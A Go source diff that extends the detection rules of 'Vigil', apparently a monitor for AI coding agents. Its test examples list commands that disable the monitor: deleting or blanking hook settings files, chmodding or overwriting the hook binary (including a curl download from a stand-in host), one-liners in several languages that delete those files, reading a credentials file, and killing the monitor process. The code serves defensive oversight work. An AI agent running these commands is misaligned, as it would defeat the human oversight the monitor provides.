@@ -87,7 +87,7 @@ var (
 			sh(`python3 -c 'print(open("/tmp/t/home/.local/share/vigil/creds/agent.creds").read())'`),
 			sh(`python3 -c 'import json; print(json.dumps({"file": "approver.token"}))'`)}}
 	ruleSelfTamper = &SelfRule{ID: "vigil-tamper",
-		Doc: "writes, moves, deletes, truncates, chmods/chowns, links or copies over (or git rm / mv / checkout / restores) Vigil's binary, its data directory, its credentials directory, or any client's hook settings (project, user and system scope: .claude/settings*.json, /etc/claude-code/managed-settings.json, .gemini/settings.json, /etc/gemini-cli/settings.json, .cursor/hooks.json, .openhands/hooks.json), from a shell, a write tool, or code that writes files",
+		Doc: "writes, moves, deletes, truncates, chmods/chowns, links or copies over (or git rm / mv / checkout / restores, or builds or downloads with -o over) Vigil's binary, its data directory, its credentials directory, or any client's hook settings (project, user and system scope: .claude/settings*.json, /etc/claude-code/managed-settings.json, .gemini/settings.json, /etc/gemini-cli/settings.json, .cursor/hooks.json, .openhands/hooks.json), from a shell, a write tool, or code that writes, moves, removes or chmods files",
 		Fires: []SelfExample{sh("echo '{}' > .claude/settings.local.json"), sh("rm .claude/settings.local.json"), sh("mv .claude .claude.off"),
 			sh("truncate -s0 ~/.gemini/settings.json"), sh("chmod 000 /opt/tools/vigil-hook"), sh("ln -sf /dev/null .cursor/hooks.json"),
 			sh("cp /dev/null /etc/claude-code/managed-settings.json"), sh("sed -i s/vigil/true/ .claude/settings.json"),
@@ -101,7 +101,11 @@ var (
 			sh("git rm .claude/settings.local.json"), sh("git checkout -- .claude/settings.json"), sh("git restore --source HEAD~3 .gemini/settings.json"),
 			sh("git -C /tmp/t/proj mv .claude .claude.off"),
 			sh("go build -o /opt/tools/vigil-hook ./evil"), sh("gcc -o /usr/local/bin/vigil x.c"),
-			sh("curl -sSo /opt/tools/vigil-hook https://x.example/v")},
+			sh("curl -sSo /opt/tools/vigil-hook https://x.example/v"),
+			sh(`python3 -c 'import os; os.chmod("/opt/tools/vigil-hook", 0)'`),
+			sh(`python3 -c 'import shutil; shutil.move(".claude/settings.local.json", "/tmp/x")'`),
+			sh(`node -e 'require("fs").unlinkSync(".claude/settings.local.json")'`),
+			sh(`perl -e 'chmod 0, "/usr/local/bin/vigil"'`), sh(`ruby -e 'File.delete(".gemini/settings.json")'`)},
 		Quiet: []SelfExample{sh("go build -o vigil ./cmd/vigil"), sh("go build -o bin/vigil ./cmd/vigil && ./bin/vigil version"),
 			sh("rm -f ./vigil"), sh("cat .claude/settings.json"), sh("jq . .gemini/settings.json"), sh("cp .claude/settings.json /tmp/s.json"),
 			sh("ls -la ~/.local/share/vigil"), sh("rm -rf build"),
@@ -109,7 +113,9 @@ var (
 			{Tool: "file_write", Args: map[string]any{"path": "/tmp/t/proj/docs/settings.md", "content": "x"}},
 			sh(`python3 -c 'print(open("/tmp/t/proj/.claude/settings.local.json").read())'`),
 			sh("git checkout main"), sh("git rm --cached .claude/settings.local.json"), sh("git restore --staged .claude/settings.json"),
-			sh("git mv old.go new.go")}}
+			sh("git mv old.go new.go"),
+			sh(`python3 -c 'import os; print(os.stat(".claude/settings.local.json"))'`),
+			sh(`python3 -c 'import os; os.chmod("build/out.sh", 0o755)'`)}}
 	ruleSelfStop = &SelfRule{ID: "vigil-stop",
 		Doc: "stops, signals or attaches to vigil serve: kill of its pid (from serve.json or `vigil status --pid`), pkill/killall patterns that match it, systemctl/service/launchctl/docker stop of vigil, gdb/strace/ltrace attaching to it",
 		Fires: []SelfExample{sh("kill $(vigil status --pid)"), sh("kill -9 4242"), sh("pkill vigil"), sh("pkill -f serve"), sh("killall vigil"),
